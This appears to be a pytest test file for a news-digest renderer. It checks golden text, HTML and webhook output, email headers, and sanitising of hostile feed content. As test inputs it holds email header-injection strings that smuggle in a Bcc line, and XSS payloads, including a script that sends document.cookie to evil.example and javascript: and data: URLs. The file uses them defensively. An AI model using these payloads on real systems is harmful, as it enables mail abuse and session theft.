"""Renderings: golden text and HTML, email headers, and hostile feed content made harmless.

Golden files live in tests/monitor/golden/; regenerate them only on purpose with
``NEWSWATCH_REGENERATE_GOLDEN=1 .venv/bin/pytest tests/monitor/test_render.py`` and
read the diff before committing.
"""

from __future__ import annotations

import email
import email.policy
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from monitor.digests.compose import build_digest
from monitor.digests.payloads import FORMATS, webhook_body
from monitor.digests.render import email_message, render_html, render_text, subject
from tests.monitor.digest_samples import NOW, match, sample_content, story, subscription

GOLDEN = Path(__file__).parent / "golden"
REGENERATE = os.environ.get("NEWSWATCH_REGENERATE_GOLDEN") == "1"
SENDER = "Desk Alicia Bárcena <alerts@newswatch.example>"


def golden(name: str, actual: str) -> None:
    path = GOLDEN / name
    if REGENERATE:
        path.parent.mkdir(exist_ok=True)
        path.write_text(actual, encoding="utf-8")
    assert path.exists(), f"{path} is missing: run with NEWSWATCH_REGENERATE_GOLDEN=1"
    assert actual == path.read_text(encoding="utf-8"), f"{name} differs from its golden file"


def parse(raw: bytes) -> email.message.EmailMessage:
    return email.message_from_bytes(raw, policy=email.policy.default)  # type: ignore[return-value]


def test_text_rendering_matches_golden() -> None:
    golden("digest.txt", render_text(sample_content(cap=1)))


def test_html_rendering_matches_golden() -> None:
    golden("digest.html", render_html(sample_content(cap=1)))


@pytest.mark.parametrize("fmt", FORMATS)
def test_webhook_payload_matches_golden(fmt: str) -> None:
    golden(f"webhook-{fmt}.json", webhook_body(sample_content(cap=1), fmt).decode() + "\n")


def test_email_is_multipart_text_and_html_with_the_right_headers() -> None:
    content = sample_content("nwd_feedface")
    raw = email_message(content, SENDER, ["analyst@example.org"]).as_bytes()
    message = parse(raw)
    assert message.get_content_type() == "multipart/alternative"
    assert [p.get_content_type() for p in message.iter_parts()] == ["text/plain", "text/html"]
    assert message["Message-ID"] == "<nwd_feedface@newswatch.example>"
    assert message["X-Newswatch-Digest"] == "nwd_feedface"
    assert message["Date"] == "Sat, 06 Apr 2024 06:30:00 +0000"
    assert message["List-Id"] == "newswatch subscription 7 <subscription-7.newswatch.example>"
    assert message["List-Unsubscribe"].strip() == (
        "<mailto:alerts@newswatch.example?subject=unsubscribe%20subscription%207>"
    )
    assert message["To"] == "analyst@example.org"
    assert max(len(line) for line in raw.split(b"\r\n")) <= 998
    raw.decode("ascii")  # every header encoded, every body part transfer-encoded


def test_non_ascii_subject_and_sender_name_are_encoded_and_read_back_exactly() -> None:
    bárcena = story(3, "Alicia Bárcena: «México rompe relaciones con Ecuador»", "Bárcena dijo")
    content = build_digest("nwd_1", subscription(), [match(bárcena, "embassy-raids", 1)], NOW)
    raw = email_message(content, SENDER, ["analyst@example.org"]).as_bytes()
    assert b"=?utf-8?" in raw.split(b"\r\n\r\n")[0].lower()
    message = parse(raw)
    assert message["Subject"] == "[newswatch] Alicia Bárcena: «México rompe relaciones con Ecuador»"
    assert message["From"].addresses[0].display_name == "Desk Alicia Bárcena"
    assert message["From"].addresses[0].addr_spec == "alerts@newswatch.example"
    body = message.get_body(preferencelist=("plain",))
    assert body is not None and "Bárcena dijo" in body.get_content()


INJECTIONS = [
    "Raid\r\nBcc: victim@example.net",
    "Raid\nBcc: victim@example.net",
    "Raid\u2028Bcc: victim@example.net",
    "Raid\u0085Bcc: victim@example.net",
    "Raid =?UTF-8?Q?=0A?=Bcc: victim@example.net",
    "=?UTF-8?Q?=0D=0ABcc=3A_victim=40example=2Enet?=",
    "Raid\x00\x0bBcc: victim@example.net",
]


@pytest.mark.parametrize("title", INJECTIONS, ids=[repr(t)[:30] for t in INJECTIONS])
def test_a_hostile_title_never_creates_a_header(title: str) -> None:
    hostile = story(4, title, "Jorge Glas")
    content = build_digest("nwd_2", subscription(), [match(hostile, "embassy-raids", 1)], NOW)
    raw = email_message(content, SENDER, ["analyst@example.org"]).as_bytes()
    message = parse(raw)
    assert message["Bcc"] is None
    assert "bcc" not in {k.lower() for k in message.keys()}
    block = raw.split(b"\r\n\r\n")[0].decode("ascii")
    unfolded = re.sub(r"\r\n[ \t]", " ", block).split("\r\n")
    assert all(line.startswith("Subject:") for line in unfolded if "victim" in line)
    assert "\n" not in message["Subject"] and "=?" not in str(message["Subject"])
    assert message["Subject"].startswith("[newswatch] ")


class _Inspector(HTMLParser):
    """Collects every tag, attribute and URL a mail client would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((name, value or "") for name, value in attrs)


HOSTILE_TITLE = 'Embassy <script>alert("t")</script><img src=x onerror=alert(1)> raid'
HOSTILE_SUMMARY = (
    'Jorge Glas <script>document.location="https://evil.example/?"+document.cookie</script> '
    '<a href="javascript:alert(1)">click</a> <a href="jav&#x61;script:alert(2)">more</a> '
    '<iframe src="https://evil.example"></iframe> <style>body{background:url(https://evil.example/t.png)}</style>'
    " <b onmouseover=alert(3)>bold</b>"
)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "jav&#x61;script:alert(1)",
        "java\tscript:alert(1)",
        " JAVASCRIPT:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        'https://ok.example/"><script>alert(1)</script>',
    ],
    ids=["plain", "entity", "tab", "upper", "data", "attribute-break"],
)
def test_hostile_feed_content_is_inert_in_html_text_and_headers(url: str) -> None:
    hostile = story(5, HOSTILE_TITLE, HOSTILE_SUMMARY, url=url)
    content = build_digest(
        "nwd_3", subscription(), [match(hostile, "embassy-raids", 1, "Jorge Glas")], NOW
    )
    html = render_html(content)
    inspector = _Inspector()
    inspector.feed(html)
    active = {"script", "img", "iframe", "style", "object", "embed", "link", "form", "svg"}
    assert not active & set(inspector.tags)
    for name, value in inspector.attributes:
        assert not name.startswith("on"), (name, value)
        if name in ("href", "src", "action"):
            assert value.startswith(("https://", "http://")), value
            assert '"' not in value and "<" not in value
    assert "javascript:" not in html.lower().replace("javascript:alert", "")  # only as text
    assert "&lt;script&gt;" in html  # shown as text, escaped
    # The email around it carries the same inert HTML, and no remote resources at all.
    raw = email_message(content, SENDER, ["a@example.org"]).as_bytes()
    message = parse(raw)
    html_part = message.get_body(preferencelist=("html",))
    assert html_part is not None
    inspector = _Inspector()
    inspector.feed(html_part.get_content())
    assert not active & set(inspector.tags)
    assert not any(name == "src" for name, _ in inspector.attributes)
    assert "Bcc" not in message and message["Subject"].startswith("[newswatch] Embassy")


def test_the_html_loads_nothing_from_the_network() -> None:
    html = render_html(sample_content())
    inspector = _Inspector()
    inspector.feed(html)
    assert not {"img", "link", "script", "iframe"} & set(inspector.tags)
    assert "url(" not in html and "@import" not in html
    assert all(name != "src" for name, _ in inspector.attributes)
    assert "style" in {name for name, _ in inspector.attributes}  # CSS is inline


def test_subject_names_the_top_story_and_counts_the_rest() -> None:
    assert subject(sample_content()) == (
        "[newswatch] Ecuador police raid Mexican embassy in Quito and arrest Jorge Glas (+2 more)"
    )
